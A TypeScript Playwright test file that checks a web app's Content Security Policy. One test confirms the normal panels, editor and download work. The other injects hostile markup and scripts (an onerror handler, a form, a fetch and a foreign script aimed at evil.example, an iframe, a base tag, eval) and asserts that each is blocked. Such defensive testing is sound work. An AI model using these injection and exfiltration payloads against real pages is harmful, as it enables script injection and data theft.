import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { chooseFrom, frameOf } from '../support/oauth-browser.ts';
import { sandboxInBrowser } from '../support/sandbox-browser.ts';

const { newPage, running, noise } = sandboxInBrowser();

/** The ticket page, with an ear for what the app's policy forbids. */
async function openListening() {
  const page = await newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    Reflect.set(window, 'forbidden', seen);
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective: part, blockedURI: what } = event;
      seen.push(`${part}: ${what.startsWith('https:') ? 'elsewhere' : what}`);
    });
  });
  await page.goto(running().url);
  return { page, app: page.frameLocator('iframe:visible') };
}

const forbidden = (page: Page) =>
  frameOf(page).evaluate(() => Reflect.get(window, 'forbidden') as readonly string[]);

it('lets every panel, a file, the code editor and the menus be what they are', async () => {
  const { page, app } = await openListening();
  await app.getByRole('button', { name: 'Add link' }).click();
  await app.getByRole('button', { name: 'Cancel' }).click();
  await chooseFrom(app, 'More actions', 'Export');
  const downloading = page.waitForEvent('download');
  await app.getByRole('button', { name: 'Download' }).click();
  const file = await downloading;

  await app.getByRole('tab', { name: 'Explorer' }).click();
  await app.getByRole('search', { name: 'Search links' }).waitFor();
  await app.getByRole('tab', { name: 'Connections' }).click();
  await app.getByRole('button', { name: 'Add connection' }).waitFor();
  await app.getByRole('tab', { name: 'ActiveCampaign' }).click();
  await app.getByRole('button', { name: 'Find' }).waitFor();
  await app.getByRole('tab', { name: 'Make' }).click();
  await app
    .getByRole('button', { name: /^Actions for / })
    .first()
    .click();
  await app.getByRole('menuitem', { name: 'Sections and common data' }).click();
  await app.locator('.cm-editor').waitFor();

  expect(await forbidden(page)).toEqual([]);
  expect(file.suggestedFilename()).toMatch(/\.json$/);
  // Their styles are sheets without text.
  expect(await styleOf(page, '.cm-editor', 'display')).toBe('flex');
  expect(await styleOf(page, '[data-garden-id="buttons.button"]', 'cursor')).toBe('pointer');
});

const styleOf = (page: Page, selector: string, property: string) =>
  frameOf(page).evaluate(
    ([found, name]) => {
      const element = document.querySelector(found);
      return element && getComputedStyle(element).getPropertyValue(name);
    },
    [selector, property] as const,
  );

it('forbids what only a stranger would do', async () => {
  const { page, app } = await openListening();
  await app.getByRole('button', { name: 'Add link' }).waitFor();

  const ran = await frameOf(page).evaluate(async () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="data:," onerror="window.ran = 'handler'">
       <form action="https://evil.example/" id="sent"><input name="a"></form>
       <iframe src="https://evil.example/framed"></iframe>
       <object data="https://evil.example/plugged"></object>
       <style>main { display: none }</style>
       <i style="position: fixed">over all</i>
       <base href="https://evil.example/">`,
    );
    const inline = document.createElement('script');
    inline.textContent = `window.ran = 'inline'`;
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/script.js';
    document.body.append(inline, foreign);
    const failed = await fetch('https://evil.example/sent').catch(() => 'not sent');
    const form = document.getElementById('sent');
    if (form instanceof HTMLFormElement) form.submit();
    let evaluated: unknown = 'not run';
    // In a turn of its own: what a debugger runs may do more than a page.
    setTimeout(() => {
      evaluated = (0, eval)('1 + 1');
    });
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { failed, evaluated, handled: Reflect.get(window, 'ran') as unknown };
  });

  expect(ran).toEqual({ failed: 'not sent', evaluated: 'not run', handled: undefined });
  expect([...new Set(await forbidden(page))].sort()).toEqual([
    'base-uri: elsewhere',
    'connect-src: elsewhere',
    'form-action: elsewhere',
    'frame-src: elsewhere',
    'object-src: elsewhere',
    'script-src-attr: inline',
    'script-src-elem: elsewhere',
    'script-src-elem: inline',
    'script-src: eval',
    'style-src-attr: inline',
    'style-src-elem: inline',
  ]);
  const said = noise.splice(0);
  expect(said.filter((words) => !/Content Security Policy|violates/.test(words))).toEqual([]);
});
